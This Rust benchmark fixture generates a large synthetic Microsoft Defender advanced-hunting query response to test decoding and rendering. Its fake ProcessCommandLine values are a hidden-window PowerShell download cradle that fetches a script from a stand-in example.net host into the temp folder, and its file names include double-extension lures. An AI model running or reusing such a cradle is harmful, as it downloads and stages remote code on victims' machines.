//! A generated `runHuntingQuery` answer for the benchmarks (`decode`, `console_frames`): 100,000
//! rows × 20 columns, about 110 MB, deterministic (strings of hunting content with escapes and
//! non-ASCII text, 7-digit datetimes, Int64 values beyond 2^53 and i64::MIN, Int32, Boolean,
//! Double, Guid, Object columns holding objects and lists, one Object column holding JSON in a
//! string, some nulls and missing keys). Each bench uses part of it.
#![allow(dead_code)]

use crate::rng::Rng;
use std::io::Write as _;

use hunt::kql::time;

/// Rows in the generated answer.
pub const ROWS: usize = 100_000;

/// The schema: (name, Graph type).
pub const COLUMNS: [(&str, &str); 20] = [
    ("Timestamp", "DateTime"),
    ("DeviceId", "String"),
    ("DeviceName", "String"),
    ("ActionType", "String"),
    ("FileName", "String"),
    ("FolderPath", "String"),
    ("ProcessCommandLine", "String"),
    ("AccountName", "String"),
    ("SHA256", "String"),
    ("ProcessId", "Int64"),
    ("ReportId", "Int64"),
    ("RemotePort", "Int32"),
    ("IsElevated", "Boolean"),
    ("RiskScore", "Double"),
    ("CorrelationId", "Guid"),
    ("ProcessCreationTime", "DateTime"),
    ("InitiatingProcessCreationTime", "DateTime"),
    ("AdditionalFields", "Object"),
    ("Tags", "Object"),
    ("RawEventData", "Object"),
];

pub const ACTIONS: [&str; 6] = [
    "ProcessCreated",
    "ConnectionSuccess",
    "FileCreated",
    "RegistryValueSet",
    "LogonSuccess",
    "PowerShellCommand",
];
pub const FILES: [&str; 8] = [
    "powershell.exe",
    "cmd.exe",
    "rundll32.exe",
    "svchost.exe",
    "Überweisung_März.pdf.exe",
    "отчёт.docx",
    "请求.xlsm",
    "mshta.exe",
];
pub const USERS: [&str; 5] = ["alice", "bob", "svc-backup", "józef.nowak", "SYSTEM"];
pub const FOLDERS: [&str; 4] = [
    "C:\\Windows\\System32",
    "C:\\Users\\Public\\Downloads",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform",
    "C:\\Users\\józef.nowak\\AppData\\Local\\Temp",
];

/// The ticks of row `row`'s Timestamp (7 significant fraction digits).
pub fn timestamp_ticks(row: usize) -> i64 {
    time::parse_datetime("2024-03-26T00:00:00Z").expect("a datetime") + row as i64 * 8_640_012_345
}

/// The ProcessId of row `row`: beyond 2^53 on every seventh row, i64::MIN on row 3.
pub fn process_id(row: usize) -> i64 {
    match row {
        3 => i64::MIN,
        _ if row.is_multiple_of(7) => 9_007_199_254_740_993 + row as i64,
        _ => 1000 + (row as i64 * 37) % 60_000,
    }
}

pub fn json_string(out: &mut Vec<u8>, text: &str) {
    serde_json::to_writer(&mut *out, text).expect("a string");
}

/// Writes one row object (keys in schema order; a few nulls and missing keys).
pub fn write_row(out: &mut Vec<u8>, row: usize, rng: &mut Rng) {
    let key = |out: &mut Vec<u8>, name: &str, first: bool| {
        if !first {
            out.push(b',');
        }
        out.push(b'"');
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(b"\":");
    };
    let created = timestamp_ticks(row) - 1_234_567 - rng.below(10_000_000_000) as i64;
    let file = rng.pick(&FILES);
    let folder = rng.pick(&FOLDERS);
    let user = rng.pick(&USERS);
    out.push(b'{');
    key(out, "Timestamp", true);
    json_string(out, &time::format_datetime(timestamp_ticks(row)));
    key(out, "DeviceId", false);
    json_string(out, &rng.hex(40));
    key(out, "DeviceName", false);
    if row.is_multiple_of(97) {
        out.extend_from_slice(b"null");
    } else {
        json_string(out, &format!("ws-{:04}.contoso.example", rng.below(5000)));
    }
    key(out, "ActionType", false);
    json_string(out, rng.pick(&ACTIONS));
    key(out, "FileName", false);
    json_string(out, file);
    key(out, "FolderPath", false);
    json_string(out, &format!("{folder}\\{file}"));
    key(out, "ProcessCommandLine", false);
    let command = format!(
        "\"{folder}\\{file}\" -nop -w hidden -c \"iwr https://cdn-{}.example.net/{} \
         -OutFile $env:TEMP\\{}.ps1\"",
        rng.below(100),
        rng.hex(8),
        rng.hex(6)
    );
    json_string(out, &command);
    key(out, "AccountName", false);
    json_string(out, user);
    key(out, "SHA256", false);
    json_string(out, &rng.hex(64));
    key(out, "ProcessId", false);
    let _ = write!(out, "{}", process_id(row));
    key(out, "ReportId", false);
    let _ = write!(out, "{}", rng.below(1 << 40));
    key(out, "RemotePort", false);
    let _ = write!(out, "{}", rng.below(65536));
    key(out, "IsElevated", false);
    out.extend_from_slice(if rng.below(2) == 0 { b"true" } else { b"false" });
    if !row.is_multiple_of(50) {
        // Missing on every 50th row.
        key(out, "RiskScore", false);
        let _ = write!(out, "{}", rng.below(1_000_000) as f64 / 1000.0);
    }
    key(out, "CorrelationId", false);
    json_string(
        out,
        &format!(
            "{}-{}-{}-{}-{}",
            rng.hex(8),
            rng.hex(4),
            rng.hex(4),
            rng.hex(4),
            rng.hex(12)
        ),
    );
    key(out, "ProcessCreationTime", false);
    json_string(out, &time::format_datetime(created));
    key(out, "InitiatingProcessCreationTime", false);
    json_string(out, &time::format_datetime(created - 98_765_432));
    key(out, "AdditionalFields", false);
    let _ = write!(
        out,
        "{{\"Command\":\"Get-Item\",\"Count\":{},\"Flags\":[\"signed\",\"{}\"],\
         \"Nested\":{{\"Ratio\":{},\"Note\":null}}}}",
        rng.below(1000),
        rng.pick(&["elevated", "remote session", "script host"]),
        rng.below(100) as f64 / 8.0
    );
    key(out, "Tags", false);
    let _ = write!(
        out,
        "[\"T1059.001\",\"T1105\",{}]",
        if row.is_multiple_of(3) {
            "\"Lateral\""
        } else {
            "null"
        }
    );
    key(out, "RawEventData", false);
    if row.is_multiple_of(11) {
        out.extend_from_slice(b"null");
    } else {
        let raw = format!(
            "{{\"EventId\":4688,\"Channel\":\"Security\",\"Data\":{{\"NewProcessName\":\"{}\"}}}}",
            format!("{folder}\\{file}").replace('\\', "\\\\"),
        );
        json_string(out, &raw);
    }
    out.push(b'}');
}

/// The whole body, schema first as Graph sends it.
pub fn generate() -> Vec<u8> {
    let mut out = Vec::with_capacity(110_000_000);
    out.extend_from_slice(
        b"{\"@odata.context\":\"https://graph.microsoft.com/v1.0/$metadata#microsoft.graph.\
          security.huntingQueryResults\",\"schema\":[",
    );
    for (i, (name, type_name)) in COLUMNS.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let _ = write!(out, "{{\"name\":\"{name}\",\"type\":\"{type_name}\"}}");
    }
    out.extend_from_slice(b"],\"results\":[");
    let mut rng = Rng(0x4855_4E54_4752_4150);
    for row in 0..ROWS {
        if row > 0 {
            out.push(b',');
        }
        write_row(&mut out, row, &mut rng);
    }
    out.extend_from_slice(b"]}");
    out.shrink_to_fit();
    out
}
